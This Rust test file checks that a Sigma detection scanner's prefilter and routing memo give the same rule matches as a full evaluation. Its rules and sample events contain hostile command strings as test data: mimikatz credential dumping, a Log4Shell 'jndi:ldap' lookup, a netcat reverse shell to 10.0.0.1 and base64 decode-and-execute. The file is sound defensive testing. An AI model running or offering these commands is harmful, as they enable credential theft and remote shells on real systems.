//! The literal prefilter and the routing memo only save work: on events
//! built to sit on their edges, a scanner with them finds exactly what a
//! scanner without them finds (every rule evaluated), and what the rules
//! say.

use ferret_model::{Event, FieldNames, Location, Provenance, SourceKind, Value};
use ferret_sigma::{Mappings, RuleSet, RuleSource, Scanner};

/// Rules as YAML documents: (title, logsource, detection).
fn rules(docs: &[(&str, &str, &str)]) -> RuleSet {
    let sources: Vec<RuleSource> = docs
        .iter()
        .enumerate()
        .map(|(i, (title, logsource, detection))| {
            let detection: String = detection.lines().map(|l| format!("    {l}\n")).collect();
            RuleSource {
                name: format!("{i}.yml"),
                text: format!(
                    "title: {title}\nid: 00000000-0000-0000-0000-{i:012}\nlogsource:\n    {logsource}\ndetection:\n{detection}"
                ),
            }
        })
        .collect();
    let (set, diagnostics) = RuleSet::compile(&sources, FieldNames::new(), &Mappings::builtin());
    assert_eq!(set.len(), docs.len(), "{diagnostics:?}");
    set
}

fn event(set: &RuleSet, kind: SourceKind, fields: &[(&str, &str)]) -> Event {
    let mut e = Event::new(kind, Provenance { source: "t".into(), location: Location::Record(1) });
    for (name, value) in fields {
        e.push(set.names().intern(name), Value::text(*value));
    }
    e
}

/// A cloud event of `provider`'s `service` with one field.
fn cloud_event(set: &RuleSet, provider: &str, service: &str, name: &str, value: &str) -> Event {
    event(set, SourceKind::Cloud, &[("cloud.provider", provider), ("cloud.service", service), (name, value)])
}

/// The titles of the rules matching each event, with the prefilter; checks
/// the same scanner (its routing memo warm) and one without the prefilter
/// agree on every event.
fn titles(set: &RuleSet, events: &[Event]) -> Vec<Vec<String>> {
    let mut with = Scanner::new(set);
    let mut without = Scanner::new(set);
    without.set_prefilter(false);
    // Twice over: the second pass meets routings the memo already holds.
    let mut all = Vec::new();
    for pass in 0..2 {
        for e in events {
            let (mut a, mut b) = (Vec::new(), Vec::new());
            with.scan(e, &mut a);
            without.scan(e, &mut b);
            assert_eq!(a, b, "prefilter on and off disagree on {e:?}");
            if pass == 0 {
                all.push(a.iter().map(|m| set.rule(m.rule).title.clone()).collect());
            }
        }
    }
    all
}

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

#[test]
fn whole_values_are_looked_up_and_substrings_still_searched() {
    let set = rules(&[
        (
            "exact",
            "product: windows\n    category: process_creation",
            "sel:\n    OriginalFileName: 'Cmd.Exe'\ncondition: sel",
        ),
        (
            "contains",
            "product: windows\n    category: process_creation",
            "sel:\n    OriginalFileName|contains: 'cmd.exe'\ncondition: sel",
        ),
        (
            "provider",
            "product: windows\n    service: system",
            "sel:\n    Provider_Name: 'Service Control Manager'\n    ImagePath|contains: 'powershell'\ncondition: sel",
        ),
    ]);
    let process = |name: &str| {
        event(&set, SourceKind::Windows, &[("Channel", SYSMON), ("EventID", "1"), ("OriginalFileName", name)])
    };
    let service = |provider: &str| {
        event(
            &set,
            SourceKind::Windows,
            &[
                ("Channel", "System"),
                ("EventID", "7045"),
                ("Provider_Name", provider),
                ("ImagePath", "powershell -e x"),
            ],
        )
    };
    let found = titles(
        &set,
        &[
            process("CMD.EXE"),
            process("xcmd.exe"),
            process("cmd.exe.mui"),
            service("service control manager"),
            service("Service Control Manager (x)"),
        ],
    );
    assert_eq!(
        found,
        vec![vec!["exact", "contains"], vec!["contains"], vec!["contains"], vec!["provider"], Vec::<&str>::new(),]
    );
}

#[test]
fn keywords_are_searched_for_the_kinds_their_rules_serve() {
    let set = rules(&[
        ("windows keywords", "product: windows", "keywords:\n    - 'sekurlsa::logonpasswords'\ncondition: keywords"),
        ("web keywords", "category: webserver", "keywords:\n    - 'jndi:ldap'\ncondition: keywords"),
    ]);
    let windows =
        |text: &str| event(&set, SourceKind::Windows, &[("Channel", SYSMON), ("EventID", "1"), ("CommandLine", text)]);
    let found = titles(
        &set,
        &[windows("mimikatz SEKURLSA::LogonPasswords exit"), windows("curl ${jndi:ldap://x}"), windows("notepad")],
    );
    assert_eq!(found, vec![vec!["windows keywords"], Vec::<&str>::new(), Vec::<&str>::new()]);
}

#[test]
fn keywords_are_searched_for_the_rules_each_channel_reaches() {
    // 150 keywords: more than the SIMD first pass takes, so events of the
    // Application channel go through the automaton alone.
    let many: String = (0..150).map(|i| format!("    - 'antivirus{i:03}'\n")).collect();
    let set = rules(&[
        ("any channel", "product: windows", "keywords:\n    - 'sekurlsa::'\n    - 'eo.oe.kiwi'\ncondition: keywords"),
        ("application", "product: windows\n    service: application", "keywords:\n    - 'kali'\ncondition: keywords"),
        ("many", "product: windows\n    service: application", &format!("keywords:\n{many}condition: keywords")),
    ]);
    let sysmon =
        |text: &str| event(&set, SourceKind::Windows, &[("Channel", SYSMON), ("EventID", "1"), ("CommandLine", text)]);
    let application = |text: &str| {
        event(
            &set,
            SourceKind::Windows,
            &[("Channel", "Application"), ("EventID", "1000"), ("Data", "x"), ("Data", text)],
        )
    };
    let found = titles(
        &set,
        &[
            sysmon("<3 eo.oe.kiwi"),
            // The Kelvin sign lowercases to an ASCII `k`: found only if
            // the value is lowercased in full, not folded as ASCII.
            sysmon("EO.OE.\u{212A}IWI"),
            sysmon("kali antivirus042"),
            application("KALI <3 EO.OE.KIWI"),
            application("found AntiVirus149 and Antivirus000"),
            application("notepad"),
        ],
    );
    assert_eq!(
        found,
        vec![
            vec!["any channel"],
            vec!["any channel"],
            Vec::<&str>::new(),
            vec!["any channel", "application"],
            vec!["many"],
            Vec::<&str>::new(),
        ]
    );
}

#[test]
fn each_value_is_searched_for_its_fields_needles_and_every_keyword() {
    let set = rules(&[
        (
            "command",
            "product: windows\n    category: process_creation",
            "sel:\n    CommandLine|contains: 'whoami /all'\ncondition: sel",
        ),
        (
            "image",
            "product: windows\n    category: process_creation",
            "sel:\n    Image|endswith: '\\whoami.exe'\ncondition: sel",
        ),
        ("keyword", "product: windows", "keywords:\n    - 'sekurlsa::'\ncondition: keywords"),
        (
            "cloud",
            "product: aws\n    service: cloudtrail",
            "sel:\n    eventName|contains: 'PutBucketPolicy'\ncondition: sel",
        ),
    ]);
    let process = |image: &str, command: &str| {
        event(
            &set,
            SourceKind::Windows,
            &[("Channel", SYSMON), ("EventID", "1"), ("Image", image), ("CommandLine", command)],
        )
    };
    let cloud = |name: &str, value: &str| cloud_event(&set, "aws", "cloudtrail", name, value);
    let found = titles(
        &set,
        &[
            // Each literal in the other rule's field: neither rule.
            process("C:\\whoami /all", "C:\\Windows\\whoami.exe"),
            process("C:\\Windows\\whoami.exe", "WHOAMI /ALL"),
            // A keyword inside a value whose field has needles of its own.
            process("C:\\m.exe", "m.exe sekurlsa::logonpasswords"),
            // Beyond ASCII in one value: the others still folded.
            process("C:\\Users\\Jürgen\\WHOAMI.EXE", "Whoami /All SEKURLSA::"),
            // Cloud field names in any casing, substrings too.
            cloud("EventName", "xPutBucketPolicyx"),
            cloud("eventSource", "PutBucketPolicy"),
        ],
    );
    assert_eq!(
        found,
        vec![
            Vec::<&str>::new(),
            vec!["command", "image"],
            vec!["keyword"],
            vec!["command", "image", "keyword"],
            vec!["cloud"],
            Vec::<&str>::new(),
        ]
    );
}

#[test]
fn routing_memo_keeps_channels_and_event_ids_apart() {
    let set = rules(&[
        (
            "process",
            "product: windows\n    category: process_creation",
            "sel:\n    Image|endswith: '\\whoami.exe'\ncondition: sel",
        ),
        (
            "network",
            "product: windows\n    category: network_connection",
            "sel:\n    Image|endswith: '\\whoami.exe'\ncondition: sel",
        ),
        (
            "logon",
            "product: windows\n    service: security",
            "sel:\n    EventID: 4624\n    LogonType: 10\ncondition: sel",
        ),
    ]);
    let sysmon = |id: &str| {
        event(&set, SourceKind::Windows, &[("Channel", SYSMON), ("EventID", id), ("Image", "C:\\Windows\\whoami.exe")])
    };
    let logon = event(&set, SourceKind::Windows, &[("Channel", "Security"), ("EventID", "4624"), ("LogonType", "10")]);
    let found = titles(&set, &[sysmon("1"), sysmon("3"), logon.clone(), sysmon("1"), sysmon("5"), logon]);
    assert_eq!(
        found,
        vec![vec!["process"], vec!["network"], vec!["logon"], vec!["process"], Vec::<&str>::new(), vec!["logon"]]
    );
}

#[test]
fn cloud_values_are_looked_up_under_any_spelling_of_the_field() {
    let set = rules(&[(
        "role",
        "product: azure\n    service: auditlogs",
        "sel:\n    OperationName: 'Add member to role'\ncondition: sel",
    )]);
    let cloud = |name: &str, value: &str| cloud_event(&set, "azure", "auditlogs", name, value);
    let found = titles(
        &set,
        &[
            cloud("operationName", "Add member to role"),
            cloud("OperationName", "add MEMBER to role"),
            cloud("operationName", "Add owner"),
        ],
    );
    assert_eq!(found, vec![vec!["role"], vec!["role"], Vec::<&str>::new()]);
}

#[test]
fn routing_memo_starts_over_when_full_and_keeps_finding() {
    let set = rules(&[(
        "process",
        "product: windows\n    category: process_creation",
        "sel:\n    Image|endswith: '\\whoami.exe'\ncondition: sel",
    )]);
    // More distinct (channel, EventID) combinations than the memo keeps.
    let events: Vec<Event> = (0..1_500)
        .map(|i| {
            let id = if i % 100 == 0 { "1".to_owned() } else { (1_000 + i).to_string() };
            event(&set, SourceKind::Windows, &[("Channel", SYSMON), ("EventID", &id), ("Image", "C:\\x\\whoami.exe")])
        })
        .collect();
    let found = titles(&set, &events);
    let hits: Vec<usize> = found.iter().enumerate().filter(|(_, t)| !t.is_empty()).map(|(i, _)| i).collect();
    assert_eq!(hits, (0..1_500).step_by(100).collect::<Vec<_>>());
}

#[test]
fn keywords_of_an_event_with_a_raw_line_are_looked_for_in_the_line_alone() {
    // Rules match keywords against the raw line of a text source (SIGMA.md
    // D2), so the prefilter searches the line alone, not the values too.
    let set = rules(&[(
        "linux keywords",
        "product: linux",
        "keywords:\n    - 'nc -e /bin/sh'\n    - 'base64 -d |'\n    - 'kiwi'\n    - 'evil-host'\ncondition: keywords",
    )]);
    let syslog = |raw: &str, fields: &[(&str, &str)]| {
        let mut e = event(&set, SourceKind::Syslog, fields);
        e.raw = Some(raw.into());
        e
    };
    let line = |host: &str, message: &str| format!("Dec 10 06:55:46 {host} bash[1]: {message}");
    let found = titles(
        &set,
        &[
            syslog(
                &line("h", "user ran NC -E /bin/sh 10.0.0.1 4444"),
                &[("message", "user ran NC -E /bin/sh 10.0.0.1 4444")],
            ),
            // In the line's header, in no value.
            syslog(&line("EVIL-HOST", "session opened"), &[("message", "session opened")]),
            // In a value the line does not hold (a reader's decoding): not
            // a keyword match, with or without the prefilter.
            syslog(&line("h", "decoded payload follows"), &[("decoded", "echo x | BASE64 -d | sh")]),
            // Beyond ASCII: the Kelvin sign lowercases to `k`.
            syslog(&line("h", "the \u{212A}IWI printer is ready"), &[("message", "the \u{212A}IWI printer is ready")]),
            syslog(&line("h", "nothing to see here"), &[("message", "nothing to see here")]),
        ],
    );
    assert_eq!(
        found,
        vec![
            vec!["linux keywords"],
            vec!["linux keywords"],
            Vec::<&str>::new(),
            vec!["linux keywords"],
            Vec::<&str>::new(),
        ]
    );
}

#[test]
fn hash_needles_cut_short_still_find_only_the_whole_hash() {
    // The prefilter gates on the hash's first twelve digits; the rule still
    // decides on all of them, in any position of the `Hashes` list.
    let hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    let set = rules(&[(
        "hash",
        "product: windows\n    category: process_creation",
        &format!("sel:\n    Hashes|contains: 'SHA256={}'\ncondition: sel", hash.to_uppercase()),
    )]);
    let process =
        |hashes: &str| event(&set, SourceKind::Windows, &[("Channel", SYSMON), ("EventID", "1"), ("Hashes", hashes)]);
    let near_miss = format!("{}0", &hash[..63]);
    let found = titles(
        &set,
        &[
            process(&format!("MD5=00112233445566778899AABBCCDDEEFF,SHA256={hash},IMPHASH=00")),
            process(&format!("SHA256={near_miss}")),
            process(&format!("SHA256={}", &hash[..40])),
            process(&format!("SHA1={hash}")),
        ],
    );
    assert_eq!(found, vec![vec!["hash"], vec![], vec![], vec![]]);
}
